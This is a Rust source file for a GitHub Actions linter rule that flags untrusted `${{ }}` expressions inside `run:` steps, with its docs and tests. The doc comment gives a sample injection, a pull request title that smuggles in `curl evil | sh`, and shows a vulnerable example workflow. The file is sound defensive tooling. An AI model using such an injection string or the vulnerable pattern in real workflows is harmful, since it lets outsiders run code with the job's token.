use super::{Rule, steps};
use crate::rules::yaml::Node;
use crate::rules::{Family, RuleInfo, Severity, rule};

rule! {
    /// ## What it does
    /// Flags `${{ }}` expressions with values an outsider controls (event payloads, inputs, branch names) inside `run:`.
    ///
    /// ## Why is this bad?
    /// GitHub pastes the value into the script before the shell reads it: a pull request titled `"; curl evil | sh #` runs that command with the job's token (script injection).
    ///
    /// ## Example
    /// ```yaml
    /// run: echo "${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Fix
    /// `env: {TITLE: ${{ github.event.pull_request.title }}}` and `run: echo "$TITLE"`.
    pub struct ExpressionInRun;
}

pub(super) static INFO: RuleInfo = RuleInfo {
    code: "SG003",
    name: "expression-in-run",
    family: Family::GithubActions,
    severity: Severity::Error,
    fix: "Pass the value through env: and use $VAR in the script.",
    docs: ExpressionInRun::DOCS,
};

impl Rule for ExpressionInRun {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check<'a>(&self, workflow: &'a Node) -> Vec<(&'a Node, String)> {
        const UNTRUSTED: &[&str] = &[
            "github.event.",
            "github.head_ref",
            "inputs.",
            "github.event_path",
            "steps.",
            "needs.",
        ];
        steps(workflow)
            .filter_map(|step| step.get("run"))
            .filter_map(|run| {
                let script = run.as_str()?;
                let expression = script
                    .split("${{")
                    .skip(1)
                    .map(|rest| rest.split("}}").next().unwrap_or("").trim())
                    .find(|e| UNTRUSTED.iter().any(|u| e.contains(u)))?;
                Some((
                    run,
                    format!("${{{{ {expression} }}}} is pasted into the script before it runs."),
                ))
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::github_actions::{GOOD_WORKFLOW, findings};

    #[test]
    fn fires() {
        let text: String = GOOD_WORKFLOW.replace(
            "run: npm test",
            "run: echo \"${{ github.event.head_commit.message }}\"",
        );
        assert!(!findings(&ExpressionInRun, &text).is_empty(), "{text}");
    }

    #[test]
    fn stays_silent() {
        let text: String = GOOD_WORKFLOW.to_owned();
        assert_eq!(findings(&ExpressionInRun, &text), vec![]);
    }
}
